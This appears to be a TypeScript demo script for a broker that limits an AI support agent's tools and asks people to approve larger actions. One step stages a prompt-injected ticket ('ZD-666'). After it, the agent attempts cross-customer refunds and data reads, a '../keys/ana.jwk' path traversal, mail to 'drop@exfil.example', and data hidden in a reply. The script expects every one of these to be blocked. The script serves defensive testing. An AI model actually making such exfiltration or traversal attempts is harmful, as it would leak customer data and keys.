// `npm run demo`: plays the support desk's story against a real broker; exits non-zero when any step differs.
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { Orchestrator } from '@countersign/sdk/orchestrator';
import { changeOneByte } from './change-one-byte.ts';
import { AgentConnection } from './connect-agent.ts';
import { expect, row, say, step } from './narrate.ts';
import { countMessages, countRefunds } from './read-desk.ts';
import { runCommand } from './run-command.ts';
import { type Desk, setUpDesk } from './set-up-desk.ts';
import { type Running, startBroker } from './start-broker.ts';

interface Stage {
  readonly desk: Desk;
  readonly broker: Running;
  readonly orchestrator: Orchestrator;
}

const REFUND = { invoice: 'INV-1001', amount_minor: 1900, reason: 'damaged' };

const desk = setUpDesk();
let broker: Running | undefined;
const cleanUp = async (): Promise<void> => {
  await broker?.stop();
  desk.remove();
};
for (const signal of ['SIGINT', 'SIGTERM'] as const) {
  process.once(signal, () => void cleanUp().finally(() => process.exit(130)));
}
try {
  broker = await startBroker(desk);
  const { url } = broker;
  const orchestrator = new Orchestrator({ url, orchestrator: 'support-desk', key: desk.key('support-desk') });
  console.log('A support desk whose agent may be wrong or hijacked. Only Countersign holds the credentials.');
  const stage = { desk, broker, orchestrator };
  await workTicket(stage);
  await workPoisonedTicket(stage);
  await verifyLedger(stage);
  console.log('\nEvery step went as it should.');
} catch (error) {
  console.error(`\nThis step differs. ${error instanceof Error ? error.message : String(error)}`);
  process.exitCode = 1;
} finally {
  await cleanUp();
}

/** Steps 1 to 5: the honest ticket. */
async function workTicket(stage: Stage): Promise<void> {
  const agent = await openRun(stage, 'ZD-991');
  step('A run is opened for ticket ZD-991. The agent (official MCP client) sees its tools and their limits');
  await showTools(agent);

  step('It reads the ticket, and a runbook through the official filesystem server, which is sandboxed');
  const ticket = await agent.call('read_ticket', { ticket: 'ZD-991' });
  expect(ticket.content.customer, 'C-17', 'the ticket');
  say(`ZD-991   "${ticket.content.body}"`);
  const runbook = await agent.call('read_runbook', { name: 'refunds' });
  expect(runbook.outcome, 'succeeded', 'the runbook');
  say(`refunds  "${String(runbook.content.runbook).split('\n')[4]}"`);

  step('A small refund runs at once, and is read back to make sure');
  const small = await agent.call('refund_invoice', REFUND, { key: 'zd-991-lamp' });
  expect(small.outcome, 'succeeded', 'the small refund');
  row('refund_invoice INV-1001 19.00 EUR', 'succeeded', String(small.content.refund));

  step('The same key again: the same answer, and no second refund');
  const again = await agent.call('refund_invoice', REFUND, { key: 'zd-991-lamp' });
  expect(again.content, small.content, 'the repeated answer');
  expect([again.replayed, again.call_id], [true, small.call_id], 'the repeated call');
  expect(countRefunds(stage.desk, 'INV-1001'), 1, 'refunds of INV-1001 in the database');
  row(
    'refund_invoice INV-1001 19.00 EUR',
    'succeeded',
    `${again.content.refund}; refunds in the database: 1`,
  );

  step('A larger refund waits for a person; then the broker makes it, once');
  await largerRefund(stage, agent);
  await agent.close();
}

async function showTools(agent: AgentConnection): Promise<void> {
  const tools = await agent.tools();
  const names = tools.map((tool) => tool.name);
  for (const name of ['read_ticket', 'refund_invoice', 'send_mail', 'read_runbook']) {
    expect(names.includes(name), true, `the agent sees ${name}`);
  }
  expect(names.includes('write_file'), false, 'the agent sees write_file');
  const refund = tools.find((tool) => tool.name === 'refund_invoice')!;
  expect(
    refund.description.includes('Refunds above 50.00 need one person'),
    true,
    'the limits of refund_invoice',
  );
  say(names.filter((name) => !name.startsWith('countersign_')).join(', '));
  const [deed, ...limits] = refund.description.split(/(?<=\.) /);
  say(`refund_invoice: ${deed}`);
  for (const limit of limits) say(`  ${limit}`);
}

async function largerRefund({ desk, broker }: Stage, agent: AgentConnection): Promise<void> {
  const larger = { invoice: 'INV-1002', amount_minor: 12000, reason: 'late' };
  const held = await agent.call('refund_invoice', larger, { key: 'zd-991-desk' });
  expect(held.outcome, 'held', 'the larger refund');
  expect(held.text.includes('waiting for 1 person of finance'), true, 'whom it waits for');
  expect(countRefunds(desk, 'INV-1002'), 0, 'refunds of INV-1002 while it waits');
  row('refund_invoice INV-1002 120.00 EUR', 'held', 'waiting for 1 person of finance');

  const approval = String(held.content.approval_id);
  const ana = await runCommand(['approvals', 'approve', approval, '--yes'], {
    desk,
    url: broker.url,
    name: 'ana',
  });
  expect(ana.code, 0, `Ana's vote (${ana.out})`);
  const [sentence] = ana.out.split('\n');
  expect(
    sentence,
    'support-refunds wants to refund 120.00 EUR on invoice "INV-1002" of customer "C-17".',
    'what Ana reads',
  );
  say('$ countersign approvals approve apr_… --as ana');
  say(`  ${sentence}`);
  say(`  ${ana.out.split('\n').at(-1)}`);

  const done = await agent.call('countersign_call_status', { call_id: held.call_id, wait_seconds: 20 });
  expect(done.content.status, 'succeeded', 'the approved refund');
  expect(countRefunds(desk, 'INV-1002'), 1, 'refunds of INV-1002 in the database');
  const { refund } = done.content.result as { refund: string };
  row('countersign_call_status', 'succeeded', `${refund}; refunds in the database: 1`);
}

/** Step 6: the ticket that hijacks the agent. Everything that its text asks for is tried. */
async function workPoisonedTicket(stage: Stage): Promise<void> {
  const agent = await openRun(stage, 'ZD-666');
  step('Ticket ZD-666 hijacks the agent, which now tries everything that the attacker wants');
  const ticket = await agent.call('read_ticket', { ticket: 'ZD-666' });
  say(`ZD-666   "${ticket.content.body}"`);
  await agent.call('read_customer', { customer: 'C-31' });
  const attempt = async (
    what: string,
    tool: string,
    args: Record<string, unknown>,
    outcome: string,
    why: string,
    claimed?: Record<string, string>,
  ): Promise<string> => {
    const said = await agent.call(tool, args, claimed === undefined ? {} : { claimed });
    expect(said.outcome, outcome, what);
    expect(said.text.includes(why), true, `${what}: the reason (${said.text})`);
    row(what, outcome, why);
    return said.call_id;
  };
  await attempt(
    "refund another customer's invoice",
    'refund_invoice',
    REFUND,
    'policy_denied',
    "Refunds go only to the customer of the run's own ticket.",
    { why: 'the customer asked for it' },
  );
  await attempt(
    'claim to work on another ticket',
    'refund_invoice',
    REFUND,
    'context_mismatch',
    'not the ticket that this run is bound to',
    { ticket: 'ZD-991' },
  );
  await attempt(
    'refund itself more than was paid',
    'refund_invoice',
    { invoice: 'INV-3001', amount_minor: 900_000, reason: 'goodwill' },
    'precondition_failed',
    'the amount is more than what was paid and not yet refunded',
  );
  await attempt(
    "read another customer's data",
    'read_customer',
    { customer: 'C-17' },
    'policy_denied',
    "Only the customer of the run's own ticket may be looked at.",
  );
  await attempt(
    'read a key outside the runbooks',
    'read_runbook',
    { name: '../keys/ana.jwk' },
    'invalid_arguments',
    'expected text matching ^[a-z][a-z0-9-]{0,62}$',
  );
  await attempt(
    'use write_file of the file server',
    'write_file',
    { path: 'x' },
    'tool_not_found',
    'Unknown tool: "write_file".',
  );
  await attempt(
    'mail data to an outside address',
    'send_mail',
    { to: 'drop@exfil.example', subject: 'customers', body: 'Mia Koch' },
    'policy_denied',
    "Mail goes only to the customer of the run's own ticket.",
  );
  const held = await attempt(
    'hide data in a reply to the attacker',
    'reply_to_ticket',
    { body: 'Mia Koch, mia@koch.example' },
    'held',
    'waiting for 1 person of support-leads',
  );
  await rejectReply(stage, agent, held);
  expect(countRefunds(stage.desk), 2, 'refunds in the database after the attack');
  expect(countMessages(stage.desk), 0, 'messages that went out');
  say('Refunds in the database: 2, as before. Messages that went out: 0.');
  await agent.close();
}

async function rejectReply({ desk, broker }: Stage, agent: AgentConnection, call_id: string): Promise<void> {
  const as = { desk, url: broker.url, name: 'ana' };
  const listed = await runCommand(['approvals', 'list', '--json'], as);
  const open = JSON.parse(listed.out) as { approval_id: string; call_id: string }[];
  const approval = open.find((each) => each.call_id === call_id);
  const args = ['approvals', 'reject', approval?.approval_id ?? '', '--yes', '--reason', 'not his data'];
  expect((await runCommand(args, as)).code, 0, "Ana's rejection");
  const status = await agent.call('countersign_call_status', { call_id, wait_seconds: 20 });
  expect(status.outcome, 'approval_rejected', 'the rejected reply');
  row('  Ana reads it and rejects it', 'approval_rejected');
}

/** Step 7: the record, offline. */
async function verifyLedger({ desk, broker }: Stage): Promise<void> {
  step('Ben keeps a checkpoint, the broker stops, and the ledger proves itself offline');
  const kept = join(desk.folder, 'checkpoint.json');
  const as = { desk, url: broker.url, name: 'ben' };
  expect((await runCommand(['ledger', 'checkpoint', '--out', kept], as)).code, 0, "Ben's checkpoint");
  await broker.stop();
  const file = join(desk.dataDir, readdirSync(desk.dataDir).find((name) => name.endsWith('.db')) ?? '');
  const good = await runCommand(['ledger', 'verify', '--file', file, '--checkpoint', kept]);
  expect([good.code, good.out.split('\n').at(-1)], [0, 'The ledger verifies.'], 'the ledger');
  say('$ countersign ledger verify --file countersign.db --checkpoint checkpoint.json');
  for (const line of good.out.split('\n')) say(`  ${line}`);

  const { copy, seq } = changeOneByte(file, desk.folder);
  const bad = await runCommand(['ledger', 'verify', '--file', copy, '--checkpoint', kept]);
  expect(bad.code, 1, 'the changed copy');
  expect(bad.out.includes(`entry ${seq} fails`), true, `the entry that was changed (${bad.out})`);
  say('A copy in which one byte says 920.00 instead of 120.00:');
  for (const line of bad.out.split('\n')) say(`  ${line}`);
}

async function openRun({ desk, broker, orchestrator }: Stage, ticket: string): Promise<AgentConnection> {
  const trigger = `zendesk:ticket/${ticket.slice(3)}`;
  const run = await orchestrator.openRun({ agent: 'support-refunds', trigger, context: { ticket } });
  return AgentConnection.open(desk, broker.url, run.run_token);
}
